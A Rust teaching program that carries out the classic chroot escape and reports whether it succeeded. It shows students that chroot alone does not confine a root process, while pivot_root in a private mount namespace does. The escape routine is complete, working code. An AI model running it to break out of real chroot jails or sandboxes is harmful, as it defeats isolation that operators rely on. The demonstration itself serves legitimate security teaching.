//! escape_chroot: the classic chroot escape, to show students that chroot alone
//! does not contain a root process, and that pivot_root (in its own mount
//! namespace, with the old root unmounted) does.
//!
//! Why the trick works. A process has two directory references in the kernel: its
//! root and its current directory. chroot(2) changes only the root; it leaves the
//! current directory where it was. The kernel stops ".." only at the process's
//! root (and at the mount namespace's root, where ".." is the directory itself).
//! So: make a directory, chroot into it while the current directory stays
//! *outside* the new root; now no ".." walk from the current directory ever
//! meets the process's root, and `chdir("..")` climbs up to the real root of the
//! mount namespace. `chroot(".")` then makes that the root: escaped. Root can
//! always do this (it needs CAP_SYS_CHROOT), which is why chroot(2)'s man page
//! says it is not a security mechanism.
//!
//! Why pivot_root defeats it. After `pivot_root(new, old)` and `umount -l old`
//! in a private mount namespace, the container's root *is* the root of the
//! namespace's mount tree: there is nothing above it, and ".." of the
//! namespace root is itself. The same climb ends where it started, and "/" does
//! not change.
//!
//! Exit status: 0 escaped, 1 contained, 2 error.

use std::fs;
use std::io;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::process::exit;

const HELP: &str = "\
Usage: escape_chroot

The classic chroot escape. Run it as root inside a chroot or a container:

    chroot DIR /escape_chroot            -> ESCAPED (chroot alone does not contain root)
    inside a pivot_root'ed container     -> CONTAINED

What it does, in a child process: mkdir a fresh directory in \"/\", chroot into it
without changing the current directory (which is now outside the new root),
chdir(\"..\") until \".\" and \"..\" are the same directory, chroot(\".\"), and
compare stat(\"/\") (device, inode) with the one from before. It prints what it
then sees as \"/\" and a verdict line:

    escape_chroot: ESCAPED: reached the real root of this mount namespace; / holds: ...
    escape_chroot: CONTAINED: \"/\" did not change; / holds: ...

The parent removes the directory again (rmdir only).

Exit status: 0 escaped, 1 contained, 2 error (e.g. EPERM: chroot needs
CAP_SYS_CHROOT, so run it as root).
";

// std has no fork/waitpid; this program has no dependencies, so declare the
// three libc functions it needs (std links libc anyway).
extern "C" {
    fn fork() -> i32;
    fn waitpid(pid: i32, status: *mut i32, options: i32) -> i32;
    fn _exit(status: i32) -> !;
}

/// How many times at most to go up: far more than any real path is deep.
const MAX_CLIMB: usize = 4096;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.first().map(String::as_str) {
        None => {}
        Some("-h") | Some("--help") => {
            print!("{HELP}");
            exit(0);
        }
        Some(other) => {
            eprintln!("escape_chroot: unknown argument {other:?}; see escape_chroot --help");
            exit(2);
        }
    }

    let before = match fs::metadata("/") {
        Ok(m) => (m.dev(), m.ino()),
        Err(e) => fail("stat /", &e),
    };
    // A hidden name, so that it never shows in the listing of "/".
    let jail = format!("/.escape_chroot.{}", std::process::id());

    // SAFETY: this program has a single thread, so the child may run any code.
    let pid = unsafe { fork() };
    if pid < 0 {
        fail("fork", &io::Error::last_os_error());
    }
    if pid == 0 {
        let code = child(&jail, before);
        // SAFETY: leave without running the parent's exit handlers twice.
        unsafe { _exit(code) }
    }

    let mut status = 0;
    loop {
        // SAFETY: waiting for our own child.
        if unsafe { waitpid(pid, &mut status, 0) } == pid {
            break;
        }
        let e = io::Error::last_os_error();
        if e.kind() != io::ErrorKind::Interrupted {
            fail("waitpid", &e);
        }
    }
    // The parent's root never moved: the directory is where it made it.
    // (Only if the child got to make it: on a read-only "/", rmdir says EROFS, not ENOENT.)
    let made = fs::symlink_metadata(&jail).is_ok();
    let mut code = match if made { fs::remove_dir(&jail) } else { Ok(()) } {
        Ok(()) => 0,
        Err(e) if e.kind() == io::ErrorKind::NotFound => 0,
        Err(e) => {
            eprintln!("escape_chroot: rmdir {jail}: {}", errno_text(&e));
            2
        }
    };
    // WIFEXITED / WEXITSTATUS, spelled out.
    let child_code = if status & 0x7f == 0 {
        (status >> 8) & 0xff
    } else {
        eprintln!("escape_chroot: the child was killed by signal {}", status & 0x7f);
        2
    };
    if code == 0 {
        code = child_code;
    }
    exit(code);
}

/// The escape itself. Returns the exit status: 0 escaped, 1 contained, 2 error.
fn child(jail: &str, before: (u64, u64)) -> i32 {
    if let Err(e) = fs::DirBuilder::new().create(jail) {
        return error(&format!("mkdir {jail}"), &e);
    }
    // 1. The new root is the fresh directory; the current directory is still "/"
    //    of the old root, i.e. outside the new root.
    if let Err(e) = std::os::unix::fs::chroot(jail) {
        return error(&format!("chroot {jail}"), &e);
    }
    // 2. Climb. Each ".." is checked against the process's root only when the walk
    //    passes through it, and ours never does: this reaches the top of the mount
    //    tree, where ".." is "." (the namespace's root).
    for _ in 0..MAX_CLIMB {
        let (Ok(here), Ok(up)) = (fs::metadata("."), fs::metadata("..")) else {
            break;
        };
        if (here.dev(), here.ino()) == (up.dev(), up.ino()) {
            break;
        }
        if let Err(e) = std::env::set_current_dir("..") {
            return error("chdir ..", &e);
        }
    }
    // 3. Make wherever we are the root.
    if let Err(e) = std::os::unix::fs::chroot(".") {
        return error("chroot .", &e);
    }
    let after = match fs::metadata("/") {
        Ok(m) => (m.dev(), m.ino()),
        Err(e) => return error("stat /", &e),
    };
    let holds = match listing(Path::new("/")) {
        Ok(names) => names.join(" "),
        Err(e) => return error("list /", &e),
    };
    if after != before {
        println!("escape_chroot: ESCAPED: reached the real root of this mount namespace; / holds: {holds}");
        0
    } else {
        println!("escape_chroot: CONTAINED: \"/\" did not change; / holds: {holds}");
        1
    }
}

/// The names in `dir`, as `ls` shows them: sorted, without the hidden ones.
fn listing(dir: &Path) -> io::Result<Vec<String>> {
    let mut names = Vec::new();
    for entry in fs::read_dir(dir)? {
        let name = entry?.file_name().to_string_lossy().into_owned();
        if !name.starts_with('.') {
            names.push(name);
        }
    }
    names.sort();
    Ok(names)
}

fn error(what: &str, e: &io::Error) -> i32 {
    let hint = match e.raw_os_error() {
        Some(1) if what.starts_with("chroot") => "; chroot needs CAP_SYS_CHROOT: run it as root",
        Some(30) if what.starts_with("mkdir") => "; \"/\" is read-only here",
        _ => "",
    };
    eprintln!("escape_chroot: {what}: {}{hint}", errno_text(e));
    2
}

fn fail(what: &str, e: &io::Error) -> ! {
    eprintln!("escape_chroot: {what}: {}", errno_text(e));
    exit(2)
}

/// `EPERM: operation not permitted`, in the project's style.
fn errno_text(e: &io::Error) -> String {
    let Some(n) = e.raw_os_error() else {
        return e.to_string();
    };
    let name = match n {
        1 => "EPERM",
        2 => "ENOENT",
        4 => "EINTR",
        5 => "EIO",
        12 => "ENOMEM",
        13 => "EACCES",
        16 => "EBUSY",
        17 => "EEXIST",
        20 => "ENOTDIR",
        22 => "EINVAL",
        28 => "ENOSPC",
        30 => "EROFS",
        36 => "ENAMETOOLONG",
        40 => "ELOOP",
        _ => "",
    };
    // "Operation not permitted (os error 1)" -> "operation not permitted"
    let text = io::Error::from_raw_os_error(n).to_string();
    let text = text.split(" (os error").next().unwrap_or(&text);
    let mut chars = text.chars();
    let desc: String = chars.next().map(|c| c.to_lowercase().chain(chars).collect()).unwrap_or_default();
    if name.is_empty() {
        format!("errno {n}: {desc}")
    } else {
        format!("{name}: {desc}")
    }
}
